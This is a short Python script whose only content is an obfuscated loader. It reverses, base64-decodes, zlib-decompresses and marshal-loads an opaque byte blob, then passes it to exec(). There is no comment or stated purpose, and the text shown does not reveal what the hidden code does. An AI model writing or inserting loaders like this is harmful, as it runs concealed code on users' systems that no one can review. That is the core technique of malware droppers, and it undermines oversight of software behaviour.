import base64
import marshal
import zlib

_ = lambda __: marshal.loads(zlib.decompress(base64.b64decode(__[::-1])))
exec(_((
    b'=4VOlzMAHoyAipCGFc8gKMewR6X4g8LEi9Fiz4KBYclAMs4kO4qBuaQDjPyIzMg4ApVxMwQZw6gI'
    b'7SFnSTJ/cvpDv0trNN7F4LDD4TmrmT6lWcVFx+24ir0iyvwczMu44eLTa6Xh6XQulovC+rrCFqfK'
    b'ZmTillXm6laOFkbiVkqe5qv+WVcBlUSGKUouKUSqpXuuVVc+Mtl5NZAYmShhGpiqjoAQYxAjFIJm'
    b'Gp2wDMSGhVYIVGSiB2ZMgcyZ0HKmEAIz7xJe'
)))
